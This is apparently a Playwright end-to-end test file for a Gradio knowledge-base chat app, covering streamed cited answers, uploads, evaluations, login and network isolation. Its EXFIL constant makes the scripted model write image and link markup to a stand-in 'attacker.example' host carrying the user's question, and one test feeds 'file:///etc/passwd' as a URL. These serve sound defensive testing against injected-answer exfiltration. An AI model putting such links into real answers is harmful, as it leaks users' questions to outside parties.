"""The app in Debian's Chromium through Playwright: a streamed, cited answer with its tool call; upload, search and
delete in the Knowledge base tab; both evaluations; the login; Stop and a closed tab freeing the local model; and
no request from the page or the server to any outside host, while every answer the scripted model writes holds a
remote image and remote links (`EXFIL`), and no page breaks the app's Content-Security-Policy.

Waits are for elements, never for network idle: Gradio keeps a connection open. The chat test takes a screenshot
into its temporary folder; the README's come from the real model (scripts/screenshots.py).
"""

from __future__ import annotations

import contextlib
import os
import subprocess
import sys
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlparse

import pytest

from kbagent.settings import Settings
from knowledge_base.embeddings import SentenceTransformerEmbedder
from tests.support import parts
from tests.support.browser import CHROMIUM, RECORD_VIOLATIONS, SAMPLE_FILES, is_local, open_app, wait_until
from tests.support.paths import REPO, SAMPLES
from tests.support.servers import free_port, stop_server
from tests.support.ui_app import RunningApp, running_app

ATTACKER = "attacker.example"
# What a steered answer writes to send the question elsewhere: every way Markdown (and HTML in it) links or loads.
EXFIL = (
    f"![pixel](http://{ATTACKER}/pixel.png?asked=family) [more](http://{ATTACKER}/more?asked=family) "
    f'<img src="http://{ATTACKER}/tag.png"> <a href="http://{ATTACKER}/a">here</a> http://{ATTACKER}/bare '
    f"www.{ATTACKER}/www <http://{ATTACKER}/auto> [ref][evil]\n\n[evil]: http://{ATTACKER}/ref\n\n"
)

pytestmark = [pytest.mark.slow, parts.requires("Chromium", Path(CHROMIUM).exists())]


# ---- what the server process sends: every socket connect and name lookup, through an audit hook ----------

SERVER_OUTSIDE: list[str] = []
_WATCHING = False


def _audit(event: str, args: tuple[Any, ...]) -> None:
    if not _WATCHING:
        return
    if event == "socket.connect":
        address = args[1]
        if isinstance(address, tuple) and not is_local(str(address[0])):
            SERVER_OUTSIDE.append(f"connect {address}")
    elif event == "socket.getaddrinfo" and not is_local(str(args[0]) if args[0] is not None else ""):
        SERVER_OUTSIDE.append(f"lookup {args[0]}")


sys.addaudithook(_audit)


@contextlib.contextmanager
def watching_server() -> Iterator[list[str]]:
    global _WATCHING
    _WATCHING = True
    try:
        yield SERVER_OUTSIDE
    finally:
        _WATCHING = False


# ---- fixtures ----------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def ui(tmp_path_factory: pytest.TempPathFactory, embedder: SentenceTransformerEmbedder) -> Iterator[RunningApp]:
    tmp = tmp_path_factory.mktemp("ui-browser")
    settings = Settings(data_dir=tmp / "data", collection=f"t{uuid.uuid4().hex[:12]}", _env_file=None)
    files = [SAMPLES / name for name in SAMPLE_FILES]
    with watching_server(), running_app(settings, embedder, delay_s=0.04, docs=files, extra=EXFIL) as running:
        models = running.settings.store.models_path
        models.mkdir(parents=True, exist_ok=True)
        (models / "ok.gguf").write_bytes(b"GGUF")  # a local model (one answer at a time); the scripted one answers
        yield running


# ---- tests -------------------------------------------------------------------------------------------------


def test_question_gets_a_streamed_cited_answer_with_a_visible_tool_call(
    ui: RunningApp, context: Any, outside: list[str], tmp_path: Path
) -> None:
    page = open_app(context, ui.url)
    page.evaluate(
        """() => {
        window.__seen = [];
        const chat = document.querySelector('#chatbot');
        new MutationObserver(() => window.__seen.push(chat.innerText)).observe(
            chat, {subtree: true, childList: true, characterData: true});
    }"""
    )
    question = "How much is a Family membership per year?"
    page.locator("#question textarea").fill(question)
    page.locator("#question textarea").press("Enter")
    chat = page.locator("#chatbot")
    chat.get_by_text("[1]").first.wait_for()
    chat.get_by_text("search_knowledge_base").first.wait_for()
    sources = page.locator("#sources-panel")
    sources.get_by_text("[1] Membership").first.wait_for()
    answer = chat.locator(".bot .message-content").last.inner_text()
    assert answer.startswith("According to the knowledge base:") and answer.rstrip().endswith("[1]")
    assert "Family" in answer and "$70" in answer
    remote = chat.evaluate(
        """chat => [...chat.querySelectorAll('img[src], a[href], [style*="url("]')]
            .map(e => e.getAttribute('src') || e.getAttribute('href') || e.getAttribute('style'))"""
    )
    assert [url for url in remote if ATTACKER in url] == [] and outside == []
    assert "pixel" in answer and "more" in answer  # what a dropped image and link said stays, as text
    partial = {t for t in page.evaluate("window.__seen") if "According to" in t and not t.rstrip().endswith("[1]")}
    assert len(partial) >= 3, "the answer arrived in one piece, not streamed"
    assert "membership.md" in sources.inner_text() and "score" in sources.inner_text()

    page.screenshot(path=str(tmp_path / "chat.png"))
    chat.get_by_text("search_knowledge_base").first.click()  # the collapsed tool call opens: its input shows
    chat.get_by_text('"query"').first.wait_for()
    threads = page.locator("#threads input")
    wait_until(lambda: question in threads.input_value(), what="the thread under past conversations")

    page.locator("#new-chat").click()
    wait_until(lambda: "According to" not in chat.inner_text(), what="a new, empty chat")
    page.locator("#threads input").click()
    page.get_by_role("option").filter(has_text=question).first.click()
    chat.get_by_text("According to the knowledge base").first.wait_for()  # the old thread reopened
    assert outside == []
    assert SERVER_OUTSIDE == []


def test_the_content_policy_stops_a_remote_image_that_reaches_the_page(browser: Any, ui: RunningApp) -> None:
    """The second line behind the renderer: an image from elsewhere put into the page loads nothing."""
    import httpx

    assert "img-src 'self' data: blob:" in httpx.get(ui.url, timeout=10).headers["content-security-policy"]
    requested: list[str] = []
    context = browser.new_context()
    context.add_init_script(RECORD_VIOLATIONS)
    context.route("**/*", lambda r: r.continue_() if is_local(urlparse(r.request.url).hostname) else (
        requested.append(r.request.url), r.abort()))  # fmt: skip
    page = context.new_page()
    page.goto(ui.url)
    page.locator("#question textarea").wait_for()
    page.evaluate(f"document.body.insertAdjacentHTML('beforeend', '<img src=\"http://{ATTACKER}/injected.png\">')")
    wait_until(lambda: page.evaluate("window.__csp.length") > 0, what="the policy to refuse the image")
    assert requested == [] and ATTACKER in page.evaluate("window.__csp.join()")
    context.close()


def test_stop_and_a_closed_tab_free_the_local_model(ui: RunningApp, context: Any, outside: list[str]) -> None:
    """A slow answer on the local model (one answer at a time), stopped, then another left by closing its tab:
    each time the next question on that model is answered at once, not after the slow answer (five minutes)."""
    from gradio_client import Client

    local = f"gguf:{ui.settings.store.models_path}/ok.gguf"
    client = Client(ui.url, verbose=False)
    for leave in ("stop", "close"):
        page = open_app(context, ui.url)
        picker = page.locator("#model input")
        picker.fill(local)
        picker.press("Enter")
        page.locator("#question textarea").fill("Tell me slowly about the membership.")
        page.locator("#question textarea").press("Enter")
        page.locator("#chatbot").get_by_text("The word").first.wait_for()
        page.locator("#stop").click() if leave == "stop" else page.close()
        job = client.submit("How much is a Family membership per year?", "", local, api_name="/ask")
        assert "$70" in job.result(timeout=30)["answer"], leave
        if leave == "stop":
            page.close()
    assert outside == []


def test_upload_appears_becomes_searchable_and_delete_removes_it(
    ui: RunningApp, context: Any, outside: list[str], tmp_path: Path
) -> None:
    page = open_app(context, ui.url)
    page.get_by_role("tab", name="Knowledge base").click()
    upload = tmp_path / "lighthouse tours.md"
    upload.write_text("# Lighthouse tours\n\nGuided tours of the Skerry lighthouse start at the blue gate at 10:15.\n")
    page.locator("#upload input[type=file]").set_input_files(str(upload))
    page.locator("#upload").get_by_text("lighthouse tours.md").first.wait_for()
    page.locator("#ingest-files").click()
    page.locator("#ingest-result").get_by_text("1 added").wait_for()
    table = page.locator("#sources-table")
    row = table.get_by_text("lighthouse tours.md").filter(visible=True).first
    row.wait_for()
    stored = ui.settings.store.data_dir / "uploads" / "lighthouse tours.md"
    assert stored.is_file()

    page.get_by_text("Try a search").click()
    page.locator("#search-query input, #search-query textarea").first.fill("When do the lighthouse tours start?")
    page.locator("#search").click()
    page.locator("#search-results").get_by_text("Lighthouse tours").first.wait_for()

    row.click()  # a row click selects the source
    page.locator("#selected").get_by_text("lighthouse tours.md").first.wait_for()
    page.locator("#delete-sources").click()
    page.locator("#ingest-result").get_by_text("Deleted").wait_for()
    wait_until(lambda: "lighthouse tours.md" not in table.inner_text(), what="the row to go")
    assert not stored.exists()
    assert all("lighthouse" not in r.source for r in ui.kb.sources())
    assert outside == []
    assert SERVER_OUTSIDE == []


def test_bad_input_gets_a_message_not_a_stack_trace(ui: RunningApp, context: Any, outside: list[str]) -> None:
    page = open_app(context, ui.url)
    page.locator("#ask").click()  # an empty question
    page.get_by_text("Type a question first.").first.wait_for()
    page.get_by_role("tab", name="Knowledge base").click()
    page.locator("#url input, #url textarea").first.fill("file:///etc/passwd")
    page.locator("#add-url").click()
    page.get_by_text("Enter an http:// or https:// URL.").first.wait_for()
    assert "Traceback" not in page.content()
    assert outside == []


def test_evaluation_runs_with_the_session_mode_and_colours_metrics(
    ui: RunningApp, context: Any, outside: list[str], tmp_path: Path
) -> None:
    page = open_app(context, ui.url)
    page.get_by_role("tab", name="Settings").click()
    page.locator("#mode").get_by_text("keyword").click()
    page.get_by_role("tab", name="Evaluation").click()
    page.locator("#run-eval").click()  # the sample question set, picked by default
    summary = page.locator("#eval-summary")
    summary.get_by_text("Retrieval (keyword, top 10)").wait_for()
    assert summary.locator("td.metric").count() > 3 * 5  # MRR, nDCG, coverage per category and overall
    table = page.locator("#eval-table")
    table.get_by_text("membership.md").filter(visible=True).first.wait_for()  # retrieved chunks per question

    bad = tmp_path / "not-questions.jsonl"
    bad.write_text('{"q": "missing fields"}\n')
    page.locator("#question-upload input[type=file]").set_input_files(str(bad))
    page.locator("#question-upload").get_by_text("not-questions.jsonl").first.wait_for()
    page.locator("#run-eval").click()
    page.get_by_text("not a question object").first.wait_for()
    assert "Traceback" not in page.content()
    assert outside == []


def test_answers_evaluation_shows_a_leaderboard_and_opens_an_answer(
    ui: RunningApp, context: Any, outside: list[str], tmp_path: Path
) -> None:
    """Answers mode on an uploaded set: the leaderboard's row for the model, coloured; one question opens to its
    answer, flags and cited passage."""
    import json

    questions = [
        {"question": "How much is a Family membership per year?", "keywords": ["$70"], "category": "membership",
         "reference_answer": "$70 per year."},
        {"question": "What do spare tyre levers cost?", "keywords": ["$3.50"], "category": "repair",
         "reference_answer": "$3.50 a pair."},
    ]  # fmt: skip
    upload = tmp_path / "two-questions.jsonl"
    upload.write_text("".join(json.dumps(q) + "\n" for q in questions))
    page = open_app(context, ui.url)
    page.get_by_role("tab", name="Evaluation").click()
    page.locator("#eval-mode").get_by_text("Answers").click()
    page.locator("#run-answers").wait_for()
    assert not page.locator("#run-eval").is_visible()  # the retrieval controls made way
    page.locator("#question-upload input[type=file]").set_input_files(str(upload))
    page.locator("#question-upload").get_by_text("two-questions.jsonl").first.wait_for()
    page.locator("#run-answers").click()
    board = page.locator("#answers-leaderboard .kb-leaderboard")
    board.get_by_text("openai:scripted").wait_for()
    assert board.locator("td.metric.good").count() >= 2  # contains and cited, at least
    answers = page.locator("#answer-details details.kb-answer")
    wait_until(lambda: answers.count() == 2, what="one entry per question")
    first = answers.filter(has_text="Family membership").first
    passage = first.locator("blockquote.kb-passage").first
    assert not passage.is_visible()  # closed until opened
    first.locator("summary").click()
    passage.wait_for()
    assert "membership.md" in passage.inner_text() and "$70" in first.locator(".kb-answer-text").inner_text()
    assert "contains the answer" in first.inner_text()
    assert "Traceback" not in page.content()
    assert outside == []
    assert SERVER_OUTSIDE == []


def test_login_is_required_when_auth_is_set(browser: Any, tmp_path: Path, outside: list[str]) -> None:
    """`python app.py` as a user starts it: settings from the environment, the login on, for the API (checked
    first, so that a login gone from the API alone fails here) and for the page."""
    import httpx
    from gradio_client import Client
    from gradio_client.exceptions import AuthenticationError

    port = free_port()
    env = {
        **os.environ,
        "KBAGENT_DATA_DIR": str(tmp_path / "data"),
        "KBAGENT_PORT": str(port),
        "KBAGENT_AUTH": "ada:harbour-2024",
        "HF_HUB_OFFLINE": "1",
    }
    log = open(tmp_path / "app.log", "wb")  # noqa: SIM115
    proc = subprocess.Popen([sys.executable, "app.py"], cwd=REPO, env=env, stdout=log, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    try:
        wait_until(lambda: _answers(url) or proc.poll() is not None, timeout_s=120, what="python app.py to start")
        assert proc.poll() is None, (tmp_path / "app.log").read_text()[-3000:]
        assert httpx.get(f"{url}/config", timeout=10).status_code == 401  # what the page and the client read first
        with pytest.raises(AuthenticationError, match="credentials were not provided"):
            Client(url, verbose=False)
        wrong = httpx.post(f"{url}/login", data={"username": "ada", "password": "wrong"}, timeout=10)
        assert wrong.status_code == 400 and "Incorrect credentials" in wrong.text
        with pytest.raises(ValueError, match="Could not login to"):  # the client's word for that 400
            Client(url, auth=("ada", "wrong"), verbose=False)
        client = Client(url, auth=("ada", "harbour-2024"), verbose=False)
        assert client.predict(api_name="/list_sources") == []
        context = browser.new_context()
        context.route("**/*", lambda r: r.continue_() if is_local(urlparse(r.request.url).hostname) else (
            outside.append(r.request.url), r.abort()))  # fmt: skip
        page = context.new_page()
        page.goto(url)
        page.get_by_text("kbagent: sign in").wait_for()
        assert page.locator("#question").count() == 0
        page.locator("input[type=text], input:not([type])").first.fill("ada")
        page.locator("input[type=password]").fill("wrong")
        page.locator("input[type=password]").press("Enter")
        page.get_by_text("Incorrect Credentials").wait_for()
        page.locator("input[type=text], input:not([type])").first.fill("ada")
        page.locator("input[type=password]").fill("harbour-2024")
        page.locator("input[type=password]").press("Enter")
        page.locator("#question textarea").wait_for()
        context.close()
        assert outside == []
    finally:
        stop_server(proc, 20)
        log.close()


def _answers(url: str) -> bool:
    import httpx

    try:
        return httpx.get(url, timeout=1.0).status_code < 500
    except httpx.HTTPError:
        return False
